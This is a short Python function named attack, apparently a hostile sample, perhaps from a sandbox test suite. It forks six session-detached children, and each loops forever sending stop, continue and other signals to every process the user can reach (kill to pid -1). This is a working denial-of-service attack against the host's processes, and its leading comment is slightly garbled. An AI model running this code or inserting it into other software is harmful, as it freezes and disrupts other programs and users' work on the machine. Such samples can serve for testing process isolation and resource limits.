# Lets a crowd of children signal and stop each other and it for ever.
def attack():
    import posix
    import signal

    for number in (signal.SIGUSR1, signal.SIGCHLD, signal.SIGTERM):
        signal.signal(number, lambda *rest: None)
    for _ in range(6):
        if posix.fork() == 0:
            posix.setsid()
            while True:
                for number in (10, 17, 18, 20, 19):
                    try:
                        posix.kill(-1, number)
                    except OSError:
                        pass
    while True:
        signal.pause()
